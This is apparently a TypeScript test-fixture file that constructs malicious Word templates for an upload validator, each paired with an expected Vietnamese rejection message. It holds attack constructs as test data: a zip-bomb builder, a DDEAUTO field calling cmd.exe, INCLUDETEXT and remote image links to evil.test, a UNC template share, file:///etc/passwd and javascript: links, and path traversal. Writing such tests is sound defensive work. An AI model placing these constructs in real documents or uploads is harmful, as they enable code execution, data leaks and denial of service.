import { Buffer } from "node:buffer";
import { deflateRawSync } from "node:zlib";
import { writeArchive } from "../../server/documents/templates/template-archive.ts";
import { partsOf } from "./documents.ts";

const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const r = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** A template that somebody made to do harm, or spoiled by accident: how it comes about, and what has to be said of it. */
export interface HostileTemplate {
  readonly what: string;
  readonly made: (parts: Record<string, string>) => Record<string, string> | Uint8Array;
  readonly said: RegExp;
}

/** Something put before the end of the document's text. */
function inBody(xml: string) {
  return (parts: Record<string, string>) => ({
    ...parts,
    "word/document.xml": (parts["word/document.xml"] ?? "").replace(/<w:sectPr\b/, `${xml}<w:sectPr`),
  });
}

const paragraph = (text: string) => inBody(`<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`);

function related(type: string, target: string, mode = "") {
  return (parts: Record<string, string>) => ({
    ...parts,
    "word/_rels/document.xml.rels": (parts["word/_rels/document.xml.rels"] ?? "").replace(
      "</Relationships>",
      `<Relationship Id="rIdX" Type="${office}/${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/></Relationships>`,
    ),
  });
}

const withPart = (name: string, text: string) => (parts: Record<string, string>) => ({ ...parts, [name]: text });
const field = (code: string) =>
  inBody(
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code.slice(0, 2)}</w:instrText></w:r><w:r><w:instrText>${code.slice(2)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  );

/** One file that says it is small and unpacks to `megabytes`. */
function bomb(name: string, megabytes: number) {
  return (parts: Record<string, string>) => {
    const rest = Object.fromEntries(Object.entries(parts).filter(([own]) => own !== name));
    const small = writeArchive(new Map(Object.entries({ ...rest, [name]: "X" }).map(([own, text]) => [own, Buffer.from(text)])));
    // The packed bytes of the one part are put in place of what stands there; its sizes in the directory follow.
    const packed = deflateRawSync(Buffer.alloc(megabytes * 1_000_000, "<w:p/>"));
    return repacked(small, name, packed);
  };
}

function repacked(zip: Buffer, name: string, packed: Buffer): Uint8Array {
  const local = zip.indexOf(Buffer.from(`PK\u0003\u0004`, "latin1"), zip.indexOf(name) - 30 - 4);
  const start = local + 30 + name.length;
  const length = zip.readUInt32LE(local + 18);
  const end = zip.lastIndexOf(Buffer.from("PK\u0005\u0006", "latin1"));
  const directory = zip.readUInt32LE(end + 16);
  const listed = zip.lastIndexOf(name, end) - 46;
  const changed = Buffer.from(zip);
  changed.writeUInt32LE(packed.length, local + 18);
  changed.writeUInt32LE(packed.length, listed + 20);
  changed.writeUInt32LE(directory + packed.length - length, end + 16);
  const more = packed.length - length;
  for (let at = directory; at < end; at = changed.indexOf("PK\u0001\u0002", at + 4, "latin1")) {
    if (at < 0) break;
    const place = changed.readUInt32LE(at + 42);
    if (place > local) changed.writeUInt32LE(place + more, at + 42);
  }
  return Buffer.concat([changed.subarray(0, start), packed, changed.subarray(start + length)]);
}

const deep = (levels: number) => inBody(`${"<w:tbl><w:tr><w:tc>".repeat(levels)}<w:p/>${"</w:tc></w:tr></w:tbl>".repeat(levels)}`);

export const hostileTemplates: readonly HostileTemplate[] = [
  { what: "no ZIP file", made: () => Buffer.from("%PDF-1.7"), said: /Không phải tệp Word/ },
  { what: "an empty file of a ZIP", made: () => Buffer.from("PK\u0005\u0006".padEnd(22, "\0"), "latin1"), said: /Không phải tệp Word/ },
  { what: "a bomb in the text", made: bomb("word/document.xml", 300), said: /bung ra quá lớn/ },
  { what: "a bomb in a part that nobody reads", made: bomb("word/styles.xml", 200), said: /bung ra quá lớn/ },
  {
    what: "more parts than a document has",
    made: (parts) => ({ ...parts, ...Object.fromEntries(Array.from({ length: 400 }, (_, n) => [`word/x${n}.xml`, "<a/>"])) }),
    said: /bung ra quá lớn/,
  },
  { what: "macros", made: withPart("word/vbaProject.bin", "x"), said: /macro/ },
  {
    what: "macros by their content type",
    made: (parts) => ({
      ...parts,
      "[Content_Types].xml": (parts["[Content_Types].xml"] ?? "").replace("document.main+xml", "document.macroEnabled.main+xml"),
    }),
    said: /macro/,
  },
  { what: "macros by a relationship", made: related("vbaProject", "quiet.xml"), said: /macro/ },
  { what: "an OLE object", made: withPart("word/embeddings/oleObject1.bin", "x"), said: /đối tượng nhúng/ },
  { what: "an ActiveX control", made: withPart("word/activeX/activeX1.xml", "<a/>"), said: /đối tượng nhúng/ },
  { what: "an object in the text", made: inBody("<w:p><w:r><w:object/></w:r></w:p>"), said: /không dùng được <object>/ },
  {
    what: "a video with a page of its own",
    made: inBody(
      '<w:p><w:r><q:webVideoPr xmlns:q="http://x" embeddedHtml="&lt;iframe src=&quot;https://evil.test&quot;/&gt;"/></w:r></w:p>',
    ),
    said: /không dùng được <webVideoPr>/,
  },
  {
    what: "an object under another prefix",
    made: inBody('<w:p><q:altChunk xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/></w:p>'),
    said: /<altChunk>/,
  },
  { what: "another file as a chunk", made: withPart("word/afchunk.html", "<script/>"), said: /chèn nguyên một tệp/ },
  { what: "a chunk by a relationship", made: related("aFChunk", "x.xml"), said: /chèn nguyên một tệp/ },
  {
    what: "a picture outside",
    made: related("image", "https://evil.test/x.png", "External"),
    said: /trỏ ra ngoài tới “https:\/\/evil\.test/,
  },
  {
    what: "a template on a share",
    made: withPart(
      "word/_rels/settings.xml.rels",
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${office}/attachedTemplate" Target="\\\\evil\\x.dotm" TargetMode="External"/></Relationships>`,
    ),
    said: /trỏ ra ngoài/,
  },
  { what: "a link to a file", made: related("hyperlink", "file:///etc/passwd", "External"), said: /trỏ ra ngoài/ },
  { what: "a link that runs", made: related("hyperlink", "javascript:alert(1)", "External"), said: /trỏ ra ngoài/ },
  {
    what: "an address in a drawing",
    made: inBody('<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="file://evil/x"/></w:pict></w:r></w:p>'),
    said: /trỏ ra ngoài/,
  },
  {
    what: "a drawing's picture from a website",
    made: inBody(
      '<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="https://evil.test/x.png"/></v:rect></w:pict></w:r></w:p>',
    ),
    said: /trỏ ra ngoài tới “https:\/\/evil\.test/,
  },
  {
    what: "a filling's picture from a website",
    made: inBody(
      '<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><v:fill o:href="https://evil.test/x.png"/></v:rect></w:pict></w:r></w:p>',
    ),
    said: /trỏ ra ngoài tới “https:\/\/evil\.test/,
  },
  {
    what: "a picture that is a link",
    made: (parts) =>
      inBody(
        `<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ${r} r:link="rIdX"/></w:drawing></w:r></w:p>`,
      )(related("hyperlink", "https://evil.test/x.png", "External")(parts)),
    said: /biểu đồ hay phần không dùng được/,
  },
  {
    what: "a document type",
    made: (parts) => ({
      ...parts,
      "word/document.xml": `<!DOCTYPE a [<!ENTITY b "c">]>${(parts["word/document.xml"] ?? "").replace(/^<\?xml[^>]*\?>/, "")}`,
    }),
    said: /DOCTYPE/,
  },
  {
    what: "a document type in the relationships",
    made: withPart("word/_rels/document.xml.rels", "<!DOCTYPE a><Relationships/>"),
    said: /DOCTYPE/,
  },
  {
    what: "an instruction to the reader",
    made: (parts) => ({
      ...parts,
      "word/document.xml": (parts["word/document.xml"] ?? "").replace("<w:body>", "<?mso-application x?><w:body>"),
    }),
    said: /hỏng/,
  },
  { what: "broken markup", made: (parts) => ({ ...parts, "word/document.xml": `${parts["word/document.xml"]}<w:p>` }), said: /hỏng/ },
  {
    what: "bytes that are no UTF-8",
    made: (parts) =>
      writeArchive(
        new Map(
          Object.entries(parts).map(([name, text]) => [
            name,
            name === "word/document.xml" ? Buffer.from(text, "utf16le") : Buffer.from(text),
          ]),
        ),
      ),
    said: /hỏng/,
  },
  { what: "tables in tables in tables", made: deep(40), said: /lồng nhau quá sâu/ },
  { what: "a million elements", made: inBody("<w:p/>".repeat(450_000)), said: /bung ra quá lớn/ },
  { what: "DDE, its name in two pieces", made: field("DDEAUTO c:\\windows\\cmd.exe"), said: /mã trường “DDEAUTO/ },
  { what: "a file that is included", made: field('INCLUDETEXT "http://evil.test/x"'), said: /mã trường “INCLUDETEXT/ },
  {
    what: "a picture that is included",
    made: inBody('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.test/x"/></w:p>'),
    said: /mã trường “INCLUDEPICTURE/,
  },
  { what: "a date that changes by itself", made: field('DATE \\@ "dd/MM"'), said: /mã trường “DATE/ },
  { what: "a link's code to a file", made: field('HYPERLINK "file:///c:/x.exe"'), said: /mã trường “HYPERLINK/ },
  { what: "code without a field", made: inBody("<w:p><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>"), said: /mã trường “DDE/ },
  { what: "comments", made: withPart("word/comments.xml", "<a/>"), said: /nhận xét/ },
  { what: "tracked changes", made: inBody(`<w:p><w:ins w:id="1" w:author="a"><w:r><w:t>x</w:t></w:r></w:ins></w:p>`), said: /theo dõi/ },
  { what: "an SVG picture", made: withPart("word/media/image1.svg", "<svg onload='x'/>"), said: /không phải PNG, JPEG hay GIF/ },
  { what: "a picture that is none", made: withPart("word/media/image1.png", "<html>"), said: /không phải PNG, JPEG hay GIF/ },
  {
    what: "something that is not there",
    made: inBody(`<w:p><w:r><w:drawing><c:chart xmlns:c="x" ${r} r:id="rId99"/></w:drawing></w:r></w:p>`),
    said: /biểu đồ hay phần không dùng được/,
  },
  { what: "an unknown field", made: paragraph("{nmae}"), said: /Không có trường \{nmae\}/ },
  { what: "a field with two letters changed", made: paragraph("{uint}"), said: /Không có trường \{uint\}\. Có phải \{unit\}\?/ },
  { what: "a name that every object has", made: paragraph("{constructor} {__proto__} {toString}"), said: /\{constructor\}.*|\{toString\}/ },
  { what: "an expression", made: paragraph("{process.exit()}"), said: /viết sai/ },
  { what: "raw markup", made: paragraph("{@unit}"), said: /viết sai/ },
  { what: "other delimiters", made: paragraph("{=&lt;% %&gt;=}"), said: /viết sai/ },
  { what: "a bracket that stays open", made: paragraph("{unit"), said: /không thành cặp/ },
  { what: "a list that stays open", made: paragraph("{#team}"), said: /\{#team\} mở mà chưa đóng/ },
  { what: "an end without a beginning", made: paragraph("{/team}"), said: /đóng mà chưa mở/ },
  { what: "lists that cross", made: paragraph("{#team}{#facts}{/team}{/facts}"), said: /còn mở/ },
  { what: "a list in itself", made: paragraph("{#team}{#team}{/team}{/team}"), said: /lặp rồi/ },
  { what: "a list as a text", made: paragraph("{team}"), said: /là danh sách/ },
  { what: "an item's field outside of its list", made: paragraph("{dueOn}"), said: /chỉ dùng được giữa \{#requests\}/ },
  { what: "points in minutes", made: paragraph("{index} {given}"), said: /Không có trường \{index\}/ },
  { what: "ten thousand tags", made: paragraph("{unit}".repeat(10_000)), said: /tốn quá nhiều/ },
  {
    what: "no place for the code",
    made: (parts) => ({ ...parts, "word/document.xml": (parts["word/document.xml"] ?? "").replaceAll("{code}", "") }),
    said: /Mẫu thiếu trường \{code\}/,
  },
  { what: "the same part twice", made: (parts) => twice(parts), said: /hỏng/ },
  { what: "a part outside of the folder", made: withPart("../../evil.docx", "x"), said: /chèn nguyên một tệp/ },
];

function twice(parts: Record<string, string>): Uint8Array {
  const entries = Object.entries(parts).map(([name, text]): [string, Buffer] => [name, Buffer.from(text)]);
  const zip = writeArchive(new Map([...entries, ["word/documenX.xml", Buffer.from(`<w:document ${w}/>`)]]));
  return Buffer.from(zip.toString("latin1").replaceAll("word/documenX.xml", "word/document.xml"), "latin1");
}

/** The file that somebody would upload. */
export async function hostileFile({ made }: HostileTemplate, template: Uint8Array): Promise<Uint8Array> {
  const file = made(await partsOf(template));
  return file instanceof Uint8Array ? file : writeArchive(new Map(Object.entries(file).map(([name, text]) => [name, Buffer.from(text)])));
}
